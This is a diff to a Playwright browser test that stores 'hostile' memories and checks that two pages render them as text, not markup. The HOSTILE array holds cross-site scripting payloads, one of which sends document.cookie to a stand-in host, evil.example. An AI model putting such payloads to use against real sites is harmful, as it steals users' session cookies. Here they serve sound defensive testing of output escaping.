@@ -1,7 +1,7 @@
 import type { Page } from 'playwright-core'
 import { consoleTest, hasCount, hasNoViolation, signInAs } from '../browser.js'
 
-/** Memories that would do something if they were taken for more than text. The word `hostile` is in all of them. */
+/** Memories that would have an effect if they were not shown as text. All of them contain the word `hostile`. */
 const HOSTILE = [
   'hostile <script>alert(1); fetch("https://evil.example/" + document.cookie)</script>',
   'hostile <img src="https://evil.example/x.png" onerror="alert(1)"><iframe srcdoc="<script>alert(1)</script>"></iframe>',
@@ -20,7 +20,7 @@ async function isHarmless (page: Page): Promise<boolean> {
   return await page.locator(made).count() === 0
 }
 
-consoleTest('hostile memories are text on the Memories page and in the Recall lab', {}, async (t, { page, url, client }) => {
+consoleTest('hostile memories are shown as text on two pages', {}, async (t, { page, url, client }) => {
   const ids: string[] = []
   for (const content of HOSTILE) {
     const { memory_id: id } = await client().retain({
